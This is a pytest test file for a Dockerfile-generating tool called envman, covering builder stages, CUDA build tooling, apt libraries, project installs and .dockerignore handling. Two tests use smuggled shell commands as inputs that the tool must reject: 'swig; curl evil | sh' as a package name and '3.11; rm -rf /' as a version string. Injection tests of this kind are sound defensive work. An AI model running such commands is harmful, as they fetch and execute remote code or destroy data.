"""Issue #11, the image side: every locked package installs (a builder stage for source-only packages, nvcc
when one compiles CUDA code), the project is installed, system libraries are there, the context is lean."""

from __future__ import annotations

import json
import sys

import pytest
import yaml

from envman.app.generate import generate
from envman.errors import LockError, SpecError, UsageError
from envman.image.context import (
    context_warning,
    dockerignore_text,
    gitignore_patterns,
    is_ignored,
    measure_context,
    parse_dockerignore,
)
from envman.image.plan import plan_dockerfile
from envman.image.render import render_dockerfile, render_dockerignore
from envman.image.stages import BuildNeed, SystemLibraries, plan_source_builds, system_libraries
from envman.image.tables import load_image_tables
from envman.lock.artifacts import refuse_in_framework_closure, source_only
from envman.project.spec import parse_spec
from envman.resolve.request import build_request
from envman.resolve.resolver import resolve_stack

PYLOCK = '''lock-version = "1.0"
created-by = "uv"

[[packages]]
name = "numpy"
version = "2.1.3"
sdist = { url = "https://files.pythonhosted.org/numpy-2.1.3.tar.gz", hashes = { sha256 = "aa" } }
wheels = [{ url = "https://files.pythonhosted.org/numpy-2.1.3-cp311-cp311-manylinux_2_17_x86_64.whl", hashes = { sha256 = "bc" } }]

[[packages]]
name = "Promise"
version = "2.3"
sdist = { url = "https://files.pythonhosted.org/promise-2.3.tar.gz", hashes = { sha256 = "df" } }
'''


def _plan(matrix, sb=None, *, cpu=True, base_kind=None, install_project=False, fw=True, sde=None):
    res = resolve_stack(matrix, build_request(matrix, framework="torch", cpu=cpu, targets=[] if cpu else ["h100"]))
    from envman.lockedstack import BaseImage, LockedStack, ProjectFacts

    return plan_dockerfile(LockedStack(
        name="p", res=res, base=BaseImage(res.base_image, base_kind or res.base_kind), inputs_hash="1" * 64,
        fw_lock="requirements.framework.lock.txt" if fw else None, req_lock="requirements.lock.txt",
        builds=sb, source_lock="requirements.source.lock.txt" if sb else None,
        devel_image="nvidia/cuda:13.0.2-cudnn-devel-ubuntu24.04", project=ProjectFacts(installed=install_project),
        source_date_epoch=sde,
    ), "0" * 64), res


# --- every locked package installs ----------------------------------------------------------------


def test_source_only_packages_are_read_from_uvs_pylock():
    assert source_only(PYLOCK) == [("promise", "2.3")]


def test_a_lock_with_an_sdist_only_package_gets_a_builder_stage(matrix):
    sb = plan_source_builds([("promise", "2.3")], {"promise": BuildNeed("promise", compiler=False, source="x")}, None, False)
    plan, _ = _plan(matrix, sb)
    assert plan.builder is not None and plan.builder.system_step is None  # pure Python: no compiler
    assert plan.builder.framework_step is None  # promise does not import torch while it builds
    text = render_dockerfile(plan)
    assert "AS envman-wheels" in text
    assert ("/opt/venv/bin/pip wheel --require-hashes --no-deps --use-pep517 --wheel-dir /wheels "
            "-r /tmp/envman/requirements.source.lock.txt") in text
    assert "--mount=type=bind,from=envman-wheels,source=/wheels,target=/tmp/envman/wheels" in text
    # the final stage still installs wheels only, and the built wheels go in before the rest of the lock
    assert text.count("--only-binary=:all:") == 2
    assert text.index("/tmp/envman/wheels/*.whl") < text.index("-r /tmp/envman/requirements.lock.txt")
    assert text.index("AS envman-wheels") < text.rindex("FROM python:")


def test_an_unknown_source_only_package_gets_a_compiler_in_the_builder_only(matrix):
    sb = plan_source_builds([("mystery", "1.0")], {}, None, False)
    plan, _ = _plan(matrix, sb)
    assert "build-essential" in plan.builder.system_step.command
    assert plan.system_step is None


def test_deepspeed_builds_against_the_locked_framework_with_nvcc_from_wheels_on_a_slim_base(matrix):
    needs = load_image_tables().build_needs
    sb = plan_source_builds([("deepspeed", "0.18.2")], needs, "13.0", cuda_base=False, nvcc_wheels=load_image_tables().nvcc)
    assert sb.framework and sb.cuda and sb.nvcc == ("nvidia-cuda-nvcc==13.0.*", "nvidia/cu13")
    assert any("nvidia-cuda-nvcc==13.0.* wheel" in n and "builder stage" in n for n in sb.notes)
    plan, res = _plan(matrix, sb, cpu=False, base_kind="slim")
    b = plan.builder
    assert b.framework_step == plan.framework_step  # the same locked framework layer, in the builder
    assert "--no-build-isolation" in b.wheel_step.command
    assert "nvidia-cuda-nvcc==13.0.*" in b.tools_step.command and ("CUDA_HOME", '"/opt/venv/cuda"') in b.env
    assert "site.getsitepackages()[0])')/nvidia/cu13\" /opt/venv/cuda" in b.tools_step.command
    assert b.base_image == plan.base_image
    assert ("TORCH_CUDA_ARCH_LIST", '"9.0"') in b.env  # the h100 only: no GPU in a build to ask


def test_cuda_sources_build_on_the_devel_image_when_the_base_is_nvidia_cuda(matrix):
    needs = load_image_tables().build_needs
    sb = plan_source_builds([("flash-attn", "2.8.3")], needs, "13.0", cuda_base=True)
    plan, _ = _plan(matrix, sb, cpu=False, base_kind="cuda-runtime")
    assert plan.builder.base_image == "nvidia/cuda:13.0.2-cudnn-devel-ubuntu24.04"
    assert plan.builder.tools_step is not None and "nvcc" not in plan.builder.tools_step.command
    assert any("devel image" in n for n in sb.notes)


def test_a_build_that_runs_a_system_tool_gets_it_in_the_builder_only(matrix):
    # rl-baselines3-zoo's box2d-py sdist runs swig (issue 20: "command 'swig' failed" in the builder)
    sb = plan_source_builds([("box2d-py", "2.3.8")], load_image_tables().build_needs, None, False)
    assert sb.apt == ("swig",) and any(n.startswith("box2d-py runs swig while it builds") for n in sb.notes)
    plan, _ = _plan(matrix, sb)
    assert "build-essential swig" in plan.builder.system_step.command
    assert plan.system_step is None  # never in the image


def test_a_build_tool_that_is_no_debian_package_name_is_refused(tmp_path, monkeypatch):
    from envman.errors import DataError
    from envman.image import tables

    doc = {"schema": 1, "packages": {"x": {"apt": ["swig; curl evil | sh"], "source": "s"}}}
    with pytest.raises(DataError) as e:
        tables._tables({tables.BUILD_NEEDS: doc, tables.SYSTEM_LIBRARIES: {"schema": 1, "packages": {}}}, "d")
    assert "packages.x.apt: not Debian package names: swig; curl evil | sh" in e.value.message


def test_a_source_only_package_inside_the_framework_closure_is_refused_at_lock_time():
    with pytest.raises(LockError) as e:
        refuse_in_framework_closure([("promise", "2.3")], {"torch", "promise"}, "torch")
    assert e.value.message == "promise==2.3 (needed by torch) has no wheel for the target platform"


def test_the_shipped_tables_load_and_cite_sources():
    t = load_image_tables()
    assert t.build_needs["deepspeed"].framework and t.build_needs["deepspeed"].cuda
    assert not t.build_needs["promise"].compiler
    assert all(r.source for r in [*t.build_needs.values(), *t.system_libraries.values()])


# --- system libraries -----------------------------------------------------------------------------


def test_opencv_python_brings_its_apt_libraries_and_proposes_headless():
    table = {"opencv-python": SystemLibraries("opencv-python", ("libgl1", "libglib2.0-0"), "opencv-python-headless")}
    apt, notes = system_libraries(["numpy", "opencv-python"], table)
    assert apt == ("libgl1", "libglib2.0-0")
    assert notes == ("opencv-python loads libgl1, libglib2.0-0 from the system: added to the image's apt packages; "
                     "or depend on opencv-python-headless, which needs none of them",)


def test_generate_adds_the_libraries_to_the_apt_step_and_the_lock(tmp_path):
    spec = parse_spec({"name": "cv", "framework": "none", "cpu": True, "packages": ["opencv-python", "soundfile"]})
    out = generate(tmp_path, spec, no_lock=True)
    text = (tmp_path / "Dockerfile").read_text()
    assert "apt-get install -y --no-install-recommends libgl1 libglib2.0-0 libsm6 libsndfile1" in text
    assert "libsndfile1" in json.loads((tmp_path / "envman.lock").read_text())["system_packages"]
    assert any(n.startswith("opencv-python loads libgl1") for n in out.notes)


# --- the project is installed ---------------------------------------------------------------------


def _package(tmp_path, extra=""):
    (tmp_path / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
        '[project]\nname = "hello"\nversion = "0.1"\n[project.scripts]\nhello = "hello:main"\n' + extra)
    (tmp_path / "hello.py").write_text("def main():\n    print('hi')\n")


def test_a_package_is_installed_after_its_source_and_editable_in_the_devcontainer(tmp_path):
    _package(tmp_path)
    spec = parse_spec({"name": "hello", "framework": "none", "cpu": True, "packages": ["numpy"]})
    out = generate(tmp_path, spec, no_lock=True)
    text = (tmp_path / "Dockerfile").read_text()
    step = text.index("--mount=type=tmpfs,target=/tmp/envman/project")
    assert text.index("COPY --from=envman-source --chown=app:app /tmp/envman-source /app") < step < text.index("USER app")
    # a copy of the image's source, built in a tmpfs: pip's in-tree leftovers reach neither a layer nor, through a
    # read-write bind mount that buildah writes through, the user's project directory
    assert ("cp -a /app/. /tmp/envman/project/ && /opt/venv/bin/pip install --no-deps --no-build-isolation --no-index "
            "--no-cache-dir /tmp/envman/project") in text
    assert "ARG ENVMAN_EDITABLE=" in text
    dc = json.loads((tmp_path / ".devcontainer" / "devcontainer.json").read_text().partition("\n")[2])
    assert dc["build"]["args"] == {"ENVMAN_EDITABLE": "1"}
    assert any("the project is a package (pyproject)" in n for n in out.notes)


def test_install_project_false_turns_it_off_and_true_on_a_non_package_is_refused(tmp_path):
    _package(tmp_path)
    generate(tmp_path, parse_spec({"name": "hello", "framework": "none", "cpu": True, "install_project": False}),
             no_lock=True)
    assert "/tmp/envman/project" not in (tmp_path / "Dockerfile").read_text()
    bare = tmp_path / "bare"
    bare.mkdir()
    with pytest.raises(UsageError) as e:
        generate(bare, parse_spec({"name": "bare", "framework": "none", "cpu": True, "install_project": True}), no_lock=True)
    assert e.value.message == ("envman.yaml: install_project: bare is not a package "
                               "(no pyproject.toml [build-system], no setup.py)")


def test_install_project_in_the_spec():
    assert parse_spec({"name": "a"}).install_project is None
    s = parse_spec({"name": "a", "install_project": ["train"]})
    assert s.install_project is True and s.project_extras == ("train",) and s.to_data()["install_project"] == ["train"]
    with pytest.raises(SpecError) as e:
        parse_spec({"name": "a", "install_project": "yes"})
    assert e.value.message == "envman.yaml: install_project: expected true, false, auto or a list of extras, got 'yes'"


def test_a_setup_py_project_locks_setuptools_as_its_build_backend(tmp_path):
    from envman.project.package import find_package

    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup(name='x')\n")
    pkg = find_package(tmp_path)
    assert pkg.kind == "setup.py" and pkg.build_requires == ("setuptools>=40.8.0", "wheel")


# --- a lean context -------------------------------------------------------------------------------


def test_gitignore_is_merged_into_the_dockerignore(tmp_path):
    assert gitignore_patterns("# c\n/build/\n*.log\nlogs/\nsrc/gen/*.c\n!keep.log\n") == [
        "build", "**/*.log", "**/logs", "src/gen/*.c", "!**/keep.log"]
    (tmp_path / ".gitignore").write_text("*.log\n.envman/\n")
    generate(tmp_path, parse_spec({"name": "g", "framework": "none", "cpu": True}), no_lock=True)
    text = (tmp_path / ".dockerignore").read_text()
    for p in ("data", "runs", "checkpoints", "wandb", "**/*.pt", "**/*.safetensors", "**/*.bin", "**/*.log"):
        assert p in text.splitlines()
    rules = parse_dockerignore(text)
    assert is_ignored("a/b/run.log", rules) and is_ignored("data/x.csv", rules) and is_ignored("m/w.ckpt", rules)
    # a .gitignore'd .envman/ cannot drop what the Dockerfile copies
    assert not is_ignored(".envman/kit.py", rules) and not is_ignored(".envman/stack.json", rules)
    assert is_ignored(".envman/wheelhouse/x.whl", rules) and not is_ignored("train.py", rules)


def test_build_warns_about_a_big_context_and_names_the_biggest_paths(tmp_path):
    (tmp_path / ".dockerignore").write_text(dockerignore_text(render_dockerignore(), None))
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "big.csv").write_bytes(b"x" * 5000)  # ignored
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "a.npy").write_bytes(b"x" * 3000)
    (tmp_path / "model.pt").write_bytes(b"x" * 4000)  # ignored
    (tmp_path / "train.py").write_bytes(b"x" * 100)
    size = measure_context(tmp_path)
    ignore = (tmp_path / ".dockerignore").stat().st_size  # the template's own size: it grows with the secrets it names
    assert size.biggest[0] == ("assets/", 3000) and size.total == 3000 + 100 + ignore
    assert context_warning(tmp_path) is None
    msg = context_warning(tmp_path, limit=1000)
    kib = size.total / 1024
    assert msg.startswith(f"the build context is {kib:.1f} KB after .dockerignore (over 1000 B): biggest assets/ (2.9 KB), ")
    assert "big.csv" not in msg and "model.pt" not in msg  # data and weights stay out


def test_yaml_tables_are_plain_yaml():
    from envman.resources import matrix_dir

    for f in ("build_needs.yaml", "system_libraries.yaml"):
        assert yaml.safe_load((matrix_dir() / f).read_text())["schema"] == 1


def test_a_package_with_neither_a_target_wheel_nor_an_sdist_is_refused_at_lock_time():
    from envman.lock.artifacts import refuse_unbuildable

    text = PYLOCK + '\n[[packages]]\nname = "macos-only"\nversion = "1.0"\n'
    with pytest.raises(LockError) as e:
        refuse_unbuildable(text, "3.11")
    assert e.value.message == "macos-only==1.0: no wheel for Linux x86_64 / Python 3.11 and no sdist on the index"
    refuse_unbuildable(PYLOCK, "3.11")  # promise has an sdist: the builder stage takes it


def test_deepspeed_from_source_without_a_framework_is_refused_at_lock_time():
    from envman.lock.artifacts import refuse_framework_build_without_framework

    with pytest.raises(LockError) as e:
        refuse_framework_build_without_framework(["deepspeed==0.18.2"], None)
    assert e.value.message.startswith("deepspeed==0.18.2 imports the framework (torch) while it builds from source")


def test_golden_builder_stage_and_project_install(matrix, update_golden):
    """The WHOLE Dockerfile with a builder stage (deepspeed: framework + nvcc wheel) and the project step."""
    from pathlib import Path

    t = load_image_tables()
    sb = plan_source_builds([("deepspeed", "0.18.2"), ("promise", "2.3")], t.build_needs, "13.0", False, t.nvcc)
    plan, _ = _plan(matrix, sb, cpu=False, base_kind="slim", install_project=True, sde=1784196781)
    got = render_dockerfile(plan)
    assert got.count("ARG SOURCE_DATE_EPOCH=1784196781\nARG PYTHONHASHSEED=0\n") == 3  # every stage
    gold = Path(__file__).resolve().parent.parent / "golden" / "builder-stage" / "Dockerfile"
    if update_golden:
        gold.parent.mkdir(parents=True, exist_ok=True)
        gold.write_text(got)
    assert got == gold.read_text(), "builder-stage/Dockerfile differs from the golden file (pytest --update-golden after review)"


def _sdist(files: dict[str, str]) -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_an_sdists_build_requirements_are_read_from_its_pyproject_or_default_to_setuptools():
    from envman.lock.build_deps import build_requires_of, sdist_urls

    hatch = _sdist({"x-1.0/pyproject.toml": '[build-system]\nrequires = ["hatchling>=1.20"]\n', "x-1.0/x.py": ""})
    assert build_requires_of(hatch, "x-1.0.tar.gz") == ("hatchling>=1.20",)
    legacy = _sdist({"promise-2.3/setup.py": "", "promise-2.3/tests/pyproject.toml": "[build-system]\nrequires=['no']\n"})
    assert build_requires_of(legacy, "promise-2.3.tar.gz") == ("setuptools>=40.8.0", "wheel")
    assert sdist_urls(PYLOCK)["promise"] == ("https://files.pythonhosted.org/promise-2.3.tar.gz", "df")


def test_with_a_build_lock_the_builder_installs_it_hash_checked_and_builds_without_isolation(matrix):
    sb = plan_source_builds([("promise", "2.3")], {"promise": BuildNeed("promise", compiler=False, source="x")}, None, False)
    res = resolve_stack(matrix, build_request(matrix, framework="torch", cpu=True))
    from envman.lockedstack import BaseImage, LockedStack

    plan = plan_dockerfile(LockedStack(
        name="p", res=res, base=BaseImage(res.base_image, res.base_kind), inputs_hash="1" * 64,
        req_lock="requirements.lock.txt", builds=sb, source_lock="requirements.source.lock.txt",
        tools_lock="requirements.build.lock.txt"), "0" * 64)
    b = plan.builder
    assert b.tools_step.command.endswith(
        "/opt/venv/bin/pip install --require-hashes --no-deps --only-binary=:all: -r /tmp/envman/requirements.build.lock.txt")
    assert "--use-pep517 --no-build-isolation" in b.wheel_step.command


def test_the_venv_is_made_only_on_a_base_whose_python_is_the_locks(tmp_path):
    """handson-ml3 locked for Python 3.10 on a --base-image with Python 3.11 failed as pip's 'no matching
    distribution' for cffi's cp310 wheel; the first step now says which Pythons disagree."""
    import subprocess

    from envman.image.plan import venv_command

    here = f"{sys.version_info[0]}.{sys.version_info[1]}"
    other = f"{sys.version_info[0]}.{sys.version_info[1] + 1}"
    ok = subprocess.run(["sh", "-c", venv_command(sys.executable, here).replace("/opt/venv", str(tmp_path / "v"))],
                        capture_output=True, text=True)
    assert ok.returncode == 0 and (tmp_path / "v" / "bin" / "python").exists()
    bad = subprocess.run(["sh", "-c", venv_command(sys.executable, other).replace("/opt/venv", str(tmp_path / "w"))],
                         capture_output=True, text=True)
    assert bad.returncode == 1 and not (tmp_path / "w").exists()
    assert bad.stderr.strip() == (f"the base image runs Python {here}, the lock is for Python {other}: pass "
                                  f"--base-image with Python {other}, or lock for {here} (--python)")
    with pytest.raises(ValueError):
        venv_command("python3", "3.11; rm -rf /")
